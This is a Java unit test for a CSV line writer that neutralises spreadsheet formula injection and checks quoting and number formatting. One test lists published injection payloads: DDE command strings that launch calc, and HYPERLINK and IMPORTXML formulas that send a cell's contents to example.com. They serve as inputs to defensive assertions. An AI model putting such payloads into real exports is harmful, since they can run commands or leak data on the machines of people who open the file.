package org.wardwatch.report.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvLineTest {

    @Test
    void cellsThatASpreadsheetWouldRunAreInert() {
        for (String formula : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "＝1")) {
            assertThat(CsvLine.of(List.of(formula))).isEqualTo("'" + formula + "\r\n");
        }
        assertThat(CsvLine.of(List.of("\r=1", "\n=1"))).isEqualTo("\"'\r'=1\",\"'\n'=1\"\r\n");
    }

    @Test
    void whatBecomesACellUnderOtherSeparatorsIsInertToo() {
        assertThat(CsvLine.of(List.of("a;=1+1"))).isEqualTo("a;'=1+1\r\n");
        assertThat(CsvLine.of(List.of("a\t@SUM(1)"))).isEqualTo("a\t'@SUM(1)\r\n");
        assertThat(CsvLine.of(List.of("a\r\n=1"))).isEqualTo("\"a\r\n'=1\"\r\n");
        assertThat(CsvLine.of(List.of("a; \"=1"))).isEqualTo("\"a; \"\"'=1\"\r\n");
        assertThat(CsvLine.of(List.of("a;\u0014@x"))).isEqualTo("a;\u0014'@x\r\n");
    }

    @Test
    void noPayloadOfThePublishedListsIsLeftToRun() {
        for (String payload : List.of(
                "=cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.com?leak=\"&A1,\"x\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!D2",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "  =1+1",
                "\u00A0=1+1",
                "%0A-3+3",
                ";=1+1;",
                "\t=1+1",
                "\r\n=1+1",
                "＝1＋1",
                "\u200B=1+1",
                "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")")) {
            String line = CsvLine.of(List.of(payload));
            String cell = line.startsWith("\"") ? line.substring(1) : line;
            assertThat(cell).as(payload).doesNotMatch("(?s)[\\s\\p{Z}\\p{Cf}]*[=+\\-@＝＋－＠].*");
            assertThat(cell).as(payload).doesNotMatch("(?s).*[;\t\r\n][\\s\"]*[=+\\-@＝＋－＠].*");
        }
    }

    @Test
    void numbersStayNumbersAndWhatIsNotToldIsEmpty() {
        assertThat(CsvLine.of(Arrays.asList(-5L, null, "", "a-b"))).isEqualTo("-5,,,a-b\r\n");
        assertThat(CsvLine.of(List.of(new BigDecimal("0E-6"), new BigDecimal("-1.50"))))
                .isEqualTo("0.000000,-1.50\r\n");
    }

    @Test
    void quotesCommasAndLinesAreQuoted() {
        assertThat(CsvLine.of(List.of("a,b", "say \"x\"", "two\r\nlines")))
                .isEqualTo("\"a,b\",\"say \"\"x\"\"\",\"two\r\nlines\"\r\n");
    }
}
